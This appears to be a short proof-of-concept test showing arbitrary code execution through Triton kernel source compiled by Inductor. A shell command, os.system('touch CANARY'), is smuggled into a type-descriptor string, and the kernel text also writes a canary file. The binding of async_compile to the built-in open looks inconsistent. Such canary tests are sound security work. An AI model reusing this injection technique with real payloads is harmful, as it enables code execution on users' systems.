# any: a kernel in a text, as Inductor writes it
import triton


async_compile = open
k = async_compile.triton('k', '''
import triton
import triton.language as tl

open('CANARY', 'w')


@triton.jit
def k(p):
    tl.str_to_ty("tensordesc<fp32[16],__import__('os').system('touch CANARY')>".value, None)
    tl.store(p, 1.0)
''', device_str='cuda')
